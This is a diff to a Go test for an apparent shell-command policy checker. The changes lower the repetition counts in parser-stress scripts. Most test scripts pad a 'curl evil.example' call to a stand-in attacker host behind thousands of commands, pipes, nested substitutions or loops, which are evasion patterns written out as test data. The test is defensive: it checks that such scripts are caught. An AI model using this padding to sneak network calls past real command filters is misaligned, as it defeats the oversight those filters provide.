@@ -138,14 +138,14 @@ func TestManyAtOnce(t *testing.T) {
 func TestLimits(t *testing.T) {
 	p := newPolicy(t, openConfig())
 	for name, script := range map[string]string{
-		"many commands":  strings.Repeat("true; ", 20_000) + "curl evil.example",
+		"many commands":  strings.Repeat("true; ", 16_000) + "curl evil.example",
 		"many pipes":     "ls" + strings.Repeat(" | cat", 3_000) + "; curl evil.example",
 		"deep":           strings.Repeat("$(", 5_000) + "ls" + strings.Repeat(")", 5_000),
 		"deep loops":     strings.Repeat("while true; do ", 12) + "ls" + strings.Repeat("; done", 12) + "; curl evil.example",
 		"deep for loops": strings.Repeat("for i in 1 2 3 4 5 6 7 8 9; do ", 9) + "x=$i" + strings.Repeat("; done", 9) + "; curl evil.example",
 		"braces":         "echo {1..100}{1..100}{1..100}",
 		"braces deep":    "echo " + strings.Repeat("{a,", 600) + strings.Repeat("}", 600),
-		"long word":      "curl " + strings.Repeat("a", 500_000),
+		"long word":      "curl " + strings.Repeat("a", 90_000),
 		"many variables": strings.Repeat("a=1; b=$a; ", 3_000) + "if x; then a=2; fi; curl evil.example",
 		"many branches":  strings.Repeat("if [ $x ]; then a=$b; else b=$a; fi; ", 1_000) + "curl evil.example",
 		"arithmetic":     "echo $((" + strings.Repeat("(", 3_000) + "x" + strings.Repeat(")", 3_000) + "))",
@@ -172,7 +172,7 @@ func TestLimits(t *testing.T) {
 			t.Errorf("%s: %+v", name, d)
 		}
 	}
-	if d := decide(p, strings.Repeat("true; ", 20_000)); d.Verdict != Allow {
+	if d := decide(p, strings.Repeat("true; ", 16_000)); d.Verdict != Allow {
 		t.Errorf("a long harmless script: %+v", d)
 	}
 }
